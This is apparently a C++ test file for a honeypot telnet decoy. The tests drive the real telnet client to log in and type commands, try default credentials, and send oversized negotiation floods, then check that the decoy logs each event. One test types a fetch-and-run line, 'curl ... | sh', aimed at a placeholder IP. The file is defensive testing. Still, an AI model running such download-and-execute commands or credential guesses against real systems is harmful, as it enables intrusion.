// telnet in a real decoy: raw bytes and the real telnet client (through a pty).
#include <gtest/gtest.h>
#include <pty.h>

#include "tests/decoy/decoy_harness.h"

namespace decnet::decoy::testing {
namespace {

class TelnetServiceTest : public ::testing::Test {
 protected:
  void SetUp() override {
    port_ = freePort();
    api::Json spec = {{"hostname", "cam-07"},
                      {"distro", "ubuntu22"},
                      {"services",
                       {{{"name", "telnet"},
                         {"ports", {port_}},
                         {"persona", {{"users", "root:toor,admin:s3cret!"}}}}}}};
    decoy_ = std::make_unique<DecoyProcess>(spec);
    ASSERT_TRUE(decoy_->waitFor({" telnet - listening "})) << decoy_->stderrText();
  }
  void TearDown() override {
    EXPECT_EQ(decoy_->stderrText().find("seccomp"), std::string::npos) << decoy_->stderrText();
    EXPECT_EQ(decoy_->stop(), 0);
  }

  // Runs the real telnet client on a pty: waits for each prompt, then types the answer.
  std::string drive(const std::vector<std::pair<std::string, std::string>>& steps) {
    int master = -1;
    const pid_t pid = ::forkpty(&master, nullptr, nullptr, nullptr);
    if (pid == 0) {
      const std::string port = std::to_string(port_);
      ::execlp("telnet", "telnet", "127.0.0.1", port.c_str(), static_cast<char*>(nullptr));
      std::_Exit(127);
    }
    std::string out;
    const auto deadline = std::chrono::steady_clock::now() + 30s;
    const auto readSome = [&] {
      pollfd p{master, POLLIN, 0};
      if (::poll(&p, 1, 100) <= 0) return true;
      char buffer[4096];
      const ssize_t n = ::read(master, buffer, sizeof(buffer));
      if (n <= 0) return false;
      out.append(buffer, static_cast<std::size_t>(n));
      return true;
    };
    std::size_t seen = 0;
    for (const auto& [expect, answer] : steps) {
      while (out.find(expect, seen) == std::string::npos &&
             std::chrono::steady_clock::now() < deadline && readSome()) {
      }
      seen = out.find(expect, seen);
      if (seen == std::string::npos) break;
      seen += expect.size();
      const ssize_t ignored = ::write(master, answer.data(), answer.size());
      (void)ignored;
    }
    const auto end = std::chrono::steady_clock::now() + 1500ms;
    while (std::chrono::steady_clock::now() < end && readSome()) {
    }
    ::kill(pid, SIGKILL);
    ::waitpid(pid, nullptr, 0);
    ::close(master);
    return out;
  }

  int port_ = 0;
  std::unique_ptr<DecoyProcess> decoy_;
};

TEST_F(TelnetServiceTest, RealClientLogsInAndRunsCommands) {
  if (run("command -v telnet").exitCode != 0) GTEST_SKIP() << "telnet client not installed";
  const std::string out = drive({{"cam-07 login: ", "admin\r"},
                                 {"Password: ", "s3cret!\r"},
                                 {"admin@cam-07:~$ ", "uname -a\r"},
                                 {"admin@cam-07:~$ ", "curl -s http://198.51.100.7/a | sh\r"},
                                 {"admin@cam-07:~$ ", "exit\r"}});
  EXPECT_NE(out.find("Ubuntu 22.04.5 LTS"), std::string::npos) << out;
  EXPECT_EQ(out.find("s3cret!"), std::string::npos) << "password echoed: " << out;
  EXPECT_NE(out.find("Linux cam-07 5.15.0-126-generic"), std::string::npos) << out;
  EXPECT_TRUE(decoy_->waitFor({" telnet - auth_attempt ", "principal=\"admin\"",
                               "secret=\"s3cret!\"", "outcome=\"success\""}))
      << decoy_->events();
  EXPECT_TRUE(decoy_->waitFor({" telnet - command ", "cmd=\"uname -a\"", "principal=\"admin\""}));
  EXPECT_TRUE(decoy_->waitFor(
      {" telnet - download_attempt ", "url=\"http://198.51.100.7/a\"", "tool=\"curl\""}))
      << decoy_->events();
}

TEST_F(TelnetServiceTest, RealClientWrongPasswordsThreeTimesThenClosed) {
  if (run("command -v telnet").exitCode != 0) GTEST_SKIP() << "telnet client not installed";
  const std::string out = drive({{"login: ", "root\r"},
                                 {"Password: ", "123456\r"},
                                 {"Login incorrect", ""},
                                 {"login: ", "root\r"},
                                 {"Password: ", "admin\r"},
                                 {"login: ", "pi\r"},
                                 {"Password: ", "raspberry\r"},
                                 {"Connection closed", ""}});
  EXPECT_NE(out.find("Connection closed by foreign host"), std::string::npos) << out;
  EXPECT_TRUE(decoy_->waitFor({" telnet - auth_attempt ", "principal=\"pi\"",
                               "secret=\"raspberry\"", "outcome=\"failed\""}))
      << decoy_->events();
  EXPECT_EQ(decoy_->lines({" telnet - auth_attempt ", "outcome=\"failed\""}).size(), 3u);
}

TEST_F(TelnetServiceTest, HostileNegotiationIsRecordedAndSurvived) {
  const std::string wontTtype = "\xff\xfc\x18";
  {
    RawClient client(port_);
    ASSERT_TRUE(client.connected());
    // Like telnetd, only the option requests until the client answers; then the prompt.
    EXPECT_EQ(client.receive(1s), "\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27");
    client.send(wontTtype);
    EXPECT_NE(client.receive(3s, "login: ").find("cam-07 login: "), std::string::npos);
    std::string junk = "\xff\xfa\x18";
    junk += std::string(5000, 'A');
    client.send(junk);
    client.send(std::string(3000, '\xff'));
  }
  EXPECT_TRUE(decoy_->waitFor({" telnet - disconnect ", "anomaly=\"subnegotiation_too_long\""}))
      << decoy_->events();
  RawClient again(port_);
  again.send(wontTtype);
  EXPECT_NE(again.receive(3s, "login: ").find("login: "), std::string::npos);
}

}  // namespace
}  // namespace decnet::decoy::testing
